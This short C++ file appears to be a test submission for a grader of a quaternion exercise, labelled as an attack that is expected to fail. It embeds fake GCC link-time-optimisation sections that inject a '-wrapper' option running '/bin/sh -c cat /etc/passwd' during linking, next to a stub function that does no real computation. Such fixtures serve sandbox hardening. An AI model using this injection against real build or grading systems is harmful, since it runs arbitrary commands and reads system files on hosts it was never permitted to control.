// Attack: pretends to be an object with options for the compiler at link time.
// Verdict: wrong | does not compile

__attribute__((section(".gnu.lto_.opts"), used)) const char options[] =
    "'-wrapper' '/bin/sh,-c,cat /etc/passwd'";
__attribute__((section(".gnu.lto_main.0"), used)) const char text[] = "x";

namespace quaternions {
Quaternion product(const Quaternion& a, const Quaternion&) { return a; }
}  // namespace quaternions
